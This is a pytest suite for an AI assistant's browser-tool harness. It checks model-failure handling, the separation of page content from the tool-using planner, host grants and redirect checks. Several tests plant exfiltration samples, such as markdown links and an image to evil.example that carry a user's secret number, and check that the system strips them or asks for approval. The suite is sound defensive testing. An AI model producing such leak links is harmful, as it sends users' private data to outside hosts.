"""Turns with a misbehaving model: a clear message or a repaired call, never a hang."""

import json
import re
from collections.abc import Callable
from uuid import uuid4

import pytest

from devices import protocol as p
from tests.client import Client, allow, browser_tools, make_page
from tests.penny import MANY, Penny
from tests.stand_ins.articles import GRIND, WATER
from tests.stand_ins.model_script import is_planner
from tests.stand_ins.model_server import ModelServer, Reply, Request, ToolUse, text, tool

URL = "https://coffee.example/water"
PAGES = {URL: make_page(URL, WATER.title, WATER.text, [("The grind", "https://coffee.example/grind")])}
RESULTS = [
    p.SearchResult(title=WATER.title, url=URL, snippet=WATER.paragraphs[0]),
    p.SearchResult(title=GRIND.title, url="https://coffee.example/grind", snippet=GRIND.paragraphs[0]),
]


DESK_TOOLS = browser_tools(PAGES, RESULTS)
DESK_ANSWERS = allow("once")


def failed_turn(client: Client, words: str = "Hello") -> p.TurnFailed:
    return client.expect(p.TurnFailed, 30, turn_id=client.say(words))


# The model misbehaves
# -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("reply", "code"),
    [
        (Reply(status=401), "model_key_missing"),
        (Reply(status=404), "model_not_found"),
        (Reply(status=429, headers={"Retry-After": "3600"}), "model_busy"),
        (Reply(status=500), "model_failed"),
        (Reply(tokens=("<think>Half ",), cut_after=1), "model_cut_off"),
        (Reply(tokens=()), "model_empty"),
        (Reply(tokens=("  \n ",)), "model_empty"),
    ],
)
def test_a_model_that_fails_ends_the_turn_with_a_reason(
    desk: Client, model: ModelServer, reply: Reply, code: str
) -> None:
    model.on(lambda _: True, reply)
    frame = failed_turn(desk)
    assert (frame.error.code, frame.message.kind) == (code, "failure")
    assert frame.error.message in frame.message.text


def test_the_owner_sees_that_the_model_is_busy_and_when_it_is_asked_again(desk: Client, model: ModelServer) -> None:
    model.on(lambda _: True, Reply(status=429, headers={"Retry-After": "1"}), times=2)
    turn = desk.say("Hello")
    assert "You said" in desk.expect(p.TurnDone, 30, turn_id=turn).message.text
    assert [frame.text for frame in desk.frames_of(p.TurnStatus, turn_id=turn)][:4] == [
        "The model is busy, again in 1 s",
        "Asking the model again",
        "The model is busy, again in 1 s",
        "Asking the model again",
    ]


def test_a_stop_ends_the_wait_for_a_busy_model_at_once(desk: Client, model: ModelServer) -> None:
    model.on(lambda _: True, Reply(status=503, headers={"Retry-After": "300"}))
    turn = desk.say("Hello")
    assert desk.expect(p.TurnStatus, turn_id=turn).text == "The model is busy, again in 5 min"
    desk.send(p.TurnCancel(turn_id=turn))
    assert desk.expect(p.TurnFailed, turn_id=turn).error.code == "cancelled"
    assert len(model.requests) == 1


def test_a_pause_that_is_longer_than_the_turn_ends_it_with_when_to_ask_again(desk: Client, model: ModelServer) -> None:
    model.on(lambda _: True, Reply(status=429, headers={"Retry-After": "7200"}))
    frame = failed_turn(desk)
    assert frame.error.code == "model_busy"
    assert re.search(r"is busy until (tomorrow, )?\d\d:\d\d\. Ask again then", frame.message.text)


def test_what_no_database_can_hold_is_left_out_of_an_answer(desk: Client, model: ModelServer) -> None:
    model.on(lambda request: not request.tool_results, Reply(tools=(ToolUse("browse\x00\ud83d", '{"url": "\x00"}'),)))
    model.on(lambda request: bool(request.tool_results), Reply(tokens=("Nine\x00 ", "bars\ud83d")))
    assert desk.ask("How many bars?").text == "Nine bars?"


def test_the_next_turn_works_after_one_that_failed(desk: Client, model: ModelServer) -> None:
    model.on(lambda _: True, Reply(status=500), times=10)
    failed_turn(desk)
    model.reset()
    assert "You said" in desk.ask("Again").text


def test_an_unknown_tool_is_answered_and_the_turn_goes_on(desk: Client, model: ModelServer) -> None:
    model.on(lambda r: is_planner(r) and not r.tool_results, tool("launch_rocket", target="moon"))
    model.on(lambda r: bool(r.tool_results), text("I cannot do that."))
    assert desk.ask("Fly").text == "I cannot do that."
    assert "unknown_tool" in model.requests[-1].tool_results[0]


@pytest.mark.parametrize(
    "arguments", ["{", "", "[]", '{"address": "x"}', '{"url": 5}', '{"url": "' + "x" * 9000 + '"}', "null"]
)
def test_malformed_arguments_are_answered_and_nothing_is_opened(
    desk: Client, model: ModelServer, arguments: str
) -> None:
    model.on(lambda r: is_planner(r) and not r.tool_results, Reply(tools=(ToolUse("browse_url", arguments),)))
    model.on(lambda r: bool(r.tool_results), text("It did not work."))
    assert desk.ask(f"Read {URL}").text == "It did not work."
    assert not desk.frames_of(p.ToolCall)


def test_a_planner_that_never_stops_calling_is_stopped(desk: Client, model: ModelServer) -> None:
    numbers = iter(range(100))
    model.on(is_planner, lambda _: tool("search_web", query=f"question {next(numbers)}"))
    assert desk.ask("Search without end", 60).kind == "chat"
    assert len([r for r in model.requests if is_planner(r)]) <= 8


@pytest.mark.parametrize(
    "bad",
    [
        "Sorry.",
        "{",
        '{"found": true}',
        '{"found": true, "headline": "x", "summary": "", "claims": [{"text": "a", "quote": "not there"}]}',
    ],
)
def test_a_reader_that_answers_badly_once_is_asked_again(desk: Client, model: ModelServer, bad: str) -> None:
    model.on(_is_reader, text(bad), times=1)
    answer = desk.ask(f"How is espresso brewed? {URL}", 30)
    assert WATER.paragraphs[0] in answer.text


def test_a_reader_that_always_answers_badly_brings_no_content(desk: Client, model: ModelServer) -> None:
    model.on(_is_reader, text("Here is the page: nine bars of espresso!"))
    answer = desk.ask(f"How is espresso brewed? {URL}", 30)
    assert len([r for r in model.requests if _is_reader(r)]) == 2
    assert "nine bars" not in answer.text
    assert "reading_invalid" in _last_planner(model).tool_results[0]


# The zones, on the wire
# -----------------------------------------------------------------------------------------------------


def test_no_request_with_tools_holds_a_word_of_a_page(desk: Client, model: ModelServer) -> None:
    desk.ask(f"How is espresso brewed? {URL}", 30)
    desk.ask("What did you just tell me?")
    desk.ask("Please search for espresso", 30)
    words = [WATER.title, *WATER.paragraphs, "The grind", GRIND.title, *GRIND.paragraphs]
    for request in [r for r in model.requests if is_planner(r)]:
        assert [word for word in words if word[:30] in request.everything] == []


def test_no_request_that_holds_a_page_has_tools_or_history(desk: Client, model: ModelServer) -> None:
    desk.ask("My secret number is 4711")
    desk.ask(f"How is espresso brewed? {URL}", 30)
    with_page = [r for r in model.requests if WATER.paragraphs[0][:30] in r.everything]
    assert len(with_page) >= 2
    for request in with_page:
        assert request.tools == []
        assert "4711" not in request.everything


def test_an_answer_from_a_page_is_labelled_with_its_domain(desk: Client) -> None:
    answer = desk.ask(f"How is espresso brewed? {URL}", 30)
    assert "coffee.example" in answer.origin


def test_an_address_that_a_writer_makes_up_is_dropped(desk: Client, model: ModelServer) -> None:
    leak = "See [this](https://evil.example/?q=4711) and https://evil.example/x and ![i](https://evil.example/i.png)."
    model.on(lambda r: "Readings:" in r.last_user, text(leak))
    answer = desk.ask(f"How is espresso brewed? {URL}", 30)
    assert "evil.example" not in answer.html.replace("&", "")


def test_an_address_that_the_planner_makes_up_is_asked_about(desk: Client, model: ModelServer) -> None:
    model.on(lambda r: is_planner(r) and not r.tool_results, tool("browse_url", url="https://evil.example/?q=4711"))
    model.on(lambda r: bool(r.tool_results), text("Done."))
    turn = desk.say("Tell me something")
    ask = desk.expect(p.ApprovalAsk)
    assert "evil.example" in ask.text
    desk.send(p.ApprovalAnswer(request_id=ask.request_id, decision="deny"))
    desk.expect(p.TurnDone, turn_id=turn)
    assert not desk.frames_of(p.ToolCall)


# Tools
# ----------------------------------------------------------------------------------------------------------------------


def test_no_tool_is_offered_while_no_browser_is_connected(penny: Penny, model: ModelServer) -> None:
    with penny.client("Program without tools") as client:
        client.ask(f"Read {URL}")
    assert [tool for r in model.requests for tool in r.tools if tool in ("browse_url", "search_web")] == []


def test_no_tool_is_offered_where_tool_use_is_off(desk: Client, model: ModelServer) -> None:
    ref = uuid4()
    desk.send(p.DeviceUpdate(ref=ref, tool_use=False))
    desk.expect(p.Ack, ref=str(ref))
    desk.ask(f"Read {URL}")
    assert not desk.frames_of(p.ToolCall)
    assert "browse_url" not in model.requests[0].tools


def test_a_grant_is_asked_for_before_a_page_is_opened(penny: Penny, desk: Client) -> None:
    desk.ask(f"How is espresso brewed? {URL}", 30)
    kinds = [frame.type for frame in desk.frames if frame.type in ("grant.ask", "grant.dismiss", "tool.call")]
    assert kinds[0] == "grant.ask"
    assert sorted(kinds[1:]) == ["grant.dismiss", "tool.call"]  # from two processes, in either order
    ask = desk.frames_of(p.GrantAsk)[0]
    assert (ask.host, ask.capability) == ("coffee.example", "read")


def test_the_final_address_is_checked_again_on_the_server(penny: Penny, model: ModelServer) -> None:
    penny.admin_action("devices/grant", "delete_selected")
    elsewhere = {URL: make_page("https://evil.example/", "Elsewhere", GRIND.text)}
    with penny.client(
        "Careless browser", tools=browser_tools(elsewhere), answers=_allow_only("coffee.example")
    ) as client:
        client.ask(f"How is espresso brewed? {URL}", 30)
        assert client.frames_of(p.ToolCall)
    assert not any(GRIND.paragraphs[0][:30] in r.everything for r in model.requests)


def test_the_final_address_of_a_search_is_checked_again_too(penny: Penny, model: ModelServer) -> None:
    penny.admin_action("devices/grant", "delete_selected")
    result = p.SearchResult(title=GRIND.title, url=URL, snippet=GRIND.paragraphs[0])
    elsewhere = {"search_web": lambda _: p.SearchResults(url="https://evil.example/?q=x", results=[result])}
    model.on(lambda r: bool(r.tools) and not r.tool_results, tool("search_web", query="espresso"))
    with penny.client("Careless browser", tools=elsewhere, answers=allow("always")) as client:
        client.ask("Search for espresso", 30)
        assert client.frames_of(p.ToolCall)
        assert [ask.host for ask in client.frames_of(p.GrantAsk)] == ["html.duckduckgo.com"]
    assert [result for r in model.requests for result in r.tool_results] == ['{"error":"redirect_not_granted"}']
    assert not any(GRIND.paragraphs[0][:30] in r.everything for r in model.requests)


def test_a_browser_that_disconnects_fails_its_call_at_once(penny: Penny, desk: Client) -> None:
    with penny.client("Leaving browser", tools={"browse_url": lambda _: None}, answers=allow("once")) as leaving:
        desk.send(p.DeviceUpdate(ref=(ref := uuid4()), tool_use=False))
        desk.expect(p.Ack, ref=str(ref))
        turn = leaving.say(f"How is espresso brewed? {URL}")
        leaving.expect(p.ToolCall)
        leaving.close()
    end = desk.expect(p.TurnDone, 20, turn_id=turn)
    assert end.message.text


def test_a_cancelled_turn_cancels_its_call_in_the_browser(penny: Penny, desk: Client) -> None:
    desk.tools["browse_url"] = lambda _: None
    turn = desk.say(f"How is espresso brewed? {URL}")
    call = desk.expect(p.ToolCall)
    desk.send(p.TurnCancel(turn_id=turn))
    desk.expect(p.ToolCancel, call_id=call.call_id)
    assert desk.expect(p.TurnFailed, turn_id=turn).error.code == "cancelled"


def test_an_answer_of_another_device_or_a_second_one_is_an_error(penny: Penny, desk: Client) -> None:
    desk.tools["browse_url"] = lambda _: None
    desk.say(f"How is espresso brewed? {URL}")
    call = desk.expect(p.ToolCall)
    result = p.ToolResult(call_id=call.call_id, result=PAGES[URL])
    with penny.client("Other") as other:
        other.send(result)
        assert other.expect(p.Error, ref=str(call.call_id))
    desk.send(result)
    desk.expect(p.Ack, ref=str(call.call_id))
    desk.send(result)
    assert desk.expect(p.Error, ref=str(call.call_id))


def test_a_question_that_nobody_answers_means_not_now_and_is_not_called_a_no(penny: Penny, model: ModelServer) -> None:
    penny.admin_action("devices/grant", "delete_selected")
    penny.set(ASK_S=1)
    try:
        with penny.client("Silent browser", tools=browser_tools(PAGES)) as client:
            turn = client.say(f"How is espresso brewed? {URL}")
            ask = client.expect(p.GrantAsk)
            client.expect(p.GrantDismiss, request_id=ask.request_id)
            client.expect(p.TurnDone, turn_id=turn)
            assert not client.frames_of(p.ToolCall)
    finally:
        penny.set(ASK_S=60)
    results = [result for request in model.requests for result in request.tool_results]
    assert [result for result in results if "error" in json.loads(result)] == ['{"error":"no_answer"}']
    assert "coffee.example" not in penny.http.get("/admin/devices/grant/").text


def test_a_host_is_not_asked_for_more_often_than_the_owner_set(penny: Penny, desk: Client, model: ModelServer) -> None:
    penny.set(RATE_PER_HOST_MINUTE=1)
    try:
        desk.ask(f"How is espresso brewed? {URL}", 30)
        desk.ask(f"And again: {URL}", 30)
    finally:
        penny.set(RATE_PER_HOST_MINUTE=MANY)
    assert "rate_limited" in _last_planner(model).tool_results[0]


# Helpers
# ------------------------------------------------------------------------------------------------------------


def _is_reader(request: Request) -> bool:
    return "\n\nText:\n" in request.last_user


def _last_planner(model: ModelServer) -> Request:
    return [r for r in model.requests if r.tool_results][-1]


def _allow_only(host: str) -> Callable[[p.GrantAsk], p.GrantAnswer]:
    def answer(ask: p.GrantAsk) -> p.GrantAnswer:
        return p.GrantAnswer(
            request_id=ask.request_id, decision="allow" if ask.host == host else "block", scope="always"
        )

    return answer
